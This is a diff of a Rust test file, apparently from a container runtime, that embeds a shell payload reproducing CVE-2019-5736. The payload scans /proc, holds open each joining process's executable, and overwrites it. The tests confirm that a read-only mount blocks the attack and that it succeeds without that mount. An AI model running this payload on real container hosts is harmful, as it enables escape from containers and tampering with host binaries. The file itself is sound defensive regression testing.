@@ -66,9 +66,9 @@ impl Victim {
 /// CVE-2019-5736: a process of the container opens `/proc/PID/exe` of one that joins, keeps it open
 /// and writes once it can. With every capability nothing but the read-only mount is in the way.
 const CVE_2019_5736: &str = "while :; do for p in /proc/[2-9]* /proc/[1-9][0-9]*; do \
-    case $(readlink $p/exe) in */busybox|'') ;; *) \
-    (exec 9<$p/exe && echo > /seen; while :; do echo evil > /proc/self/fd/9 && echo > /won; \
-    sleep 1; done) 2>/dev/null & ;; esac; done; done";
+    (exec 9<$p/exe && case $(readlink /proc/self/fd/9) in */busybox) ;; *) echo > /seen; \
+    while :; do echo evil > /proc/self/fd/9 && echo > /won; sleep .1; done ;; esac) 2>/dev/null & \
+    done; wait; done";
 
 #[test]
 fn privileged_cve_2019_5736_the_program_stays_intact() {
@@ -82,14 +82,7 @@ fn privileged_cve_2019_5736_the_program_stays_intact() {
 #[test]
 fn privileged_cve_2019_5736_works_without_the_protection() {
     let victim = Victim::new();
-    // What it opens can be the program that the joining process executes a moment later: then it
-    // has to try again.
-    for _ in 0..10 {
-        if !victim.wrote("won") {
-            let _ = fs::remove_file(victim.root.path().join("seen"));
-            victim.meets(CVE_2019_5736, &["bare"]);
-        }
-    }
+    victim.meets(CVE_2019_5736, &["bare"]);
     assert!(victim.wrote("won"));
     assert!(!victim.is_intact(), "the program was not overwritten");
 }
